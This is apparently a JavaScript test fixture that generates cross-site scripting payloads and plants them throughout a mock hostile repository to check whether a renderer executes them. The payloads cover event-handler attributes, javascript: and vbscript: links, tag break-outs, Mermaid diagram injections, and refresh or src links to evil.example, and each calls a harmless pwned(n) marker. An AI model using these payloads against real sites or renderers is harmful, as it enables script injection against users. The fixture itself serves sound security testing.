// Markup and script as a hostile repository would bring it along. Each payload has a number: where it runs, it calls
// pwned() with it or asks for an address with it; where it is shown, the number is seen.

const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpageshow", "onbeforeprint"];
const TAGS = ["script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta", "link", "template", "video", "audio", "portal", "noscript"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "\u0001javascript:", "data:text/html,", "vbscript:", "//evil.example/"];
const CLOSINGS = ["```", "~~~", "`", '"', "'", "-->", "]]>", "<!--", "</style>", "</script>", "</title>", "</textarea>", "</noscript>", "</template>", "</svg>", "${", "{{", "\\"];
const DIAGRAMS = [
  (run) => `graph TD; A["<img src=x onerror=${run}>"]`,
  (run) => `graph TD; click A "javascript:${run}"`,
  (run) => `graph TD; click A call ${run}`,
  (run) => `%%{init: {"securityLevel": "loose", "themeCSS": "${run}"}}%%\ngraph TD; A`,
  (run) => `graph TD; A-->B["</text><script>${run}</script>"]`,
  (run) => `classDiagram\n  class A["</text><script>${run}</script>"]`,
  (run) => `sequenceDiagram\n  A->>B: <svg/onload=${run}>`,
  (run) => `sequenceDiagram\n  link A: x @ javascript:${run}`,
  (run) => `flowchart LR\n  a["\`</foreignObject><script>${run}</script>\`"] --> b`,
  (run) => `flowchart LR\n  style a fill:url(javascript:${run})`,
  (run) => `flowchart LR\n  a@{ img: "x", label: "<img src=x onerror=${run}>" }`,
  (run) => `---\nconfig:\n  htmlLabels: true\n---\nflowchart LR\n  a["<b onpointerenter=${run}>x</b>"]`,
];

/** Every payload; the n-th calls `pwned(n)`. Those of `diagrams` are Mermaid. */
export const payloads = () => {
  const makers = [];
  for (const tag of TAGS) {
    makers.push((run) => `<${tag}>${run}</${tag}>`);
    makers.push((run, at) => `</code></pre></td></p><${tag} src=//evil.example/${at} href=//evil.example/${at} content="0;url=//evil.example/${at}" http-equiv=refresh>${run}`);
    makers.push((run) => `&lt;${tag}&gt;${run}&lt;/${tag}&gt;`);
    makers.push((run) => `<${tag.toUpperCase()}/x>${run}</${tag.toUpperCase()} >`);
  }
  for (const event of EVENTS) {
    for (const tag of ["img src=x", "svg", "details open", "input autofocus", "body"]) makers.push((run) => `<${tag} ${event}=${run}>`);
    makers.push((run) => `" ${event}="${run}" autofocus tabindex=1 x="`);
    makers.push((run) => `' ${event}='${run}' autofocus tabindex=1 x='`);
    makers.push((run) => `x ${event}=${run} autofocus `);
  }
  for (const scheme of SCHEMES) {
    makers.push((run) => `[click](${scheme}${run})`);
    makers.push((run) => `![image](${scheme}${run})`);
    makers.push((run) => `<a href="${scheme}${run}">click</a>`);
    makers.push((run) => `<${scheme}${run}>`);
    makers.push((run) => `<iframe src="${scheme}${run}"></iframe>`);
  }
  for (const closing of CLOSINGS) {
    makers.push((run) => `${closing}<script>${run}</script>`);
    makers.push((run) => `${closing}<img src=x onerror=${run}>`);
  }
  const words = makers.map((maker, at) => maker(`pwned(${at})`, at));
  const diagrams = DIAGRAMS.map((maker, at) => maker(`pwned(${words.length + at})`));
  return { words, diagrams };
};

/** A repository that says each payload where a repository can say something. */
export const hostileFiles = ({ words, diagrams }) => {
  const oneLine = (text) => text.replaceAll(/[\n\r\t\u0001]/g, " ");
  const quoted = (text) => JSON.stringify(oneLine(text));
  const files = {
    "README.md": `# <script>pwned(0)</script>${oneLine(words[2])}\n\n${words.map((text) => `${text}\n`).join("\n")}\n\n${diagrams.map((text) => `\`\`\`mermaid\n${text}\n\`\`\`\n`).join("\n")}`,
    "pyproject.toml": `[project]\nname = ${quoted(words[1])}\nversion = "1"\ndescription = ${quoted(words[0])}\nkeywords = [${words.slice(0, 40).map(quoted).join(", ")}]\n\n[project.scripts]\n${words.slice(0, 40).map((text, at) => `${quoted(text)} = "hostile.part_${at}:run_${at}"`).join("\n")}\n`,
    ".devin/wiki.json": JSON.stringify({
      repo_notes: words.slice(0, 20).map((content) => ({ content: oneLine(content) })),
      pages: words.slice(0, 60).map((text, at) => ({ title: oneLine(text), purpose: oneLine(words[at + 60]), ...(at > 40 && { parent: oneLine(words[0]) }) })),
    }),
    "docs/guide.md": `${words.map((text) => `## ${oneLine(text)}\n\nIt says ${text}\n`).join("\n")}`,
    "config.yaml": words.map((text) => `${quoted(text)}: ${quoted(text)}`).join("\n"),
    "index.html": `<!doctype html><title>${words[0]}</title>${words.join("\n")}`,
  };
  words.forEach((text, at) => {
    const name = oneLine(text).replaceAll("/", "∕").replaceAll("\0", "").slice(0, 90).trim();
    const part = Math.floor(at / 20);
    files[`hostile/part_${part}.py`] ??= `"""${oneLine(text).replaceAll('"""', "'")} """\n\n`;
    files[`hostile/part_${part}.py`] += `def run_${at}(argument=${quoted(text)}):\n    '''${oneLine(text).replaceAll("'''", '"').replaceAll("\\", "\\\\")} '''\n    return ${at}\n\n\n`;
    if (at % 4 === 0 && name && name !== "." && name !== "..") files[`names/${name}.py`] = `"""Named ${at}."""\n\n\ndef named_${at}():\n    """${oneLine(text).replaceAll('"""', "'").replaceAll("\\", "\\\\")} """\n`;
  });
  return files;
};
